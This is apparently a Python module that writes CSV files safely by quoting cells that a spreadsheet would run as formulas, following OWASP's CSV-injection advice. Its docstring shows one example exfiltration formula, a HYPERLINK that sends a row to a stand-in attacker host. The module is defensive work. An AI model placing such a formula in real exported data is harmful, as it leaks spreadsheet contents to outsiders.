"""The one way Tandem writes CSV. A spreadsheet program that opens a CSV file runs a cell that starts
with `=`, `+`, `-` or `@` (and, in some programs, a tab or a carriage return before one) as a
formula: `=HYPERLINK("http://evil.example/?"&A1,"Click")` sends the row to a stranger, and
older programs even start commands. Names, titles and e-mail addresses in Tandem come from
outside (a new sender's display name becomes a person's name), so every text cell that starts
with one of those characters is written with a single quote in front (OWASP's advice), which
spreadsheets show as text. Numbers Tandem itself computed (int, Decimal, float) stay numbers,
so an amount of -5.00 is still -5.00."""

from __future__ import annotations

import csv
import datetime
from collections.abc import Iterable
from decimal import Decimal
from typing import Any, Protocol

# OWASP, "CSV Injection": cells must not begin with these.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


class _Writable(Protocol):
    def write(self, value: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """The value as it may go into a CSV cell: numbers and dates as they are, None as empty, any
    other value as its text, with a leading `'` when a spreadsheet would read it as a formula."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float | Decimal | datetime.date | datetime.time):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class _Lines:
    """What csv.writer writes to when the rows are streamed: it hands each line back."""

    def write(self, value: str, /) -> str:
        return value


class SafeWriter:
    """csv.writer with every cell passed through `safe_cell`. `writerow` returns what it wrote,
    so with no file (`SafeWriter()`) it makes the lines of a streamed response."""

    def __init__(self, out: _Writable | None = None) -> None:
        self._writer = csv.writer(out if out is not None else _Lines())

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(value) for value in row])
